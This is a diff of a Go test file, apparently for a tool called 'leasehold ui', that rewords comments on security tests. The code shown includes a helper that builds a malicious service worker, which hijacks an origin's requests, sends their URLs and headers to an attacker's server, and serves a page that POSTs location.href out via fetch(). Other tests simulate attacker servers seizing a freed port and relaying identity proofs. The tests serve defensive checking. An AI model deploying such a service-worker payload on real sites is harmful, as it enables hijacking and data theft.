@@ -164,10 +164,9 @@ func opensWith(t testing.TB, at, loot string) string {
 	return ""
 }
 
-// planted returns the script of a malicious service worker. The browser passes each request for
-// the attacked origin to this worker. The worker sends the URL and the headers of the request to
-// the attacker's server. If the browser wants to load a page, the worker returns the attacker's
-// page. The parameter owner is the URL of the attacker's server.
+// planted returns the script of a malicious service worker, to which the browser passes each
+// request for the attacked origin. The worker sends the request's URL and headers to the attacker's
+// server, whose URL is owner. It answers page loads with the attacker's page.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -380,8 +379,8 @@ func TestPageSendsNoSecretToAttackerThatTookServerPort(t *testing.T) {
 }
 
 // The test kills leasehold ui while its page is open, and an attacker's server takes the port. The
-// page asks the server at this port to prove that it knows the secret. The attacker's server
-// forwards the question to another leasehold ui with the same secret, and returns the answer.
+// page asks this server to prove that it knows the secret. The attacker returns the proof of
+// another leasehold ui with the same secret.
 func TestPageRejectsIdentityProofRelayedFromOtherServer(t *testing.T) {
 	s := newScene(t)
 	port := freePort(t)
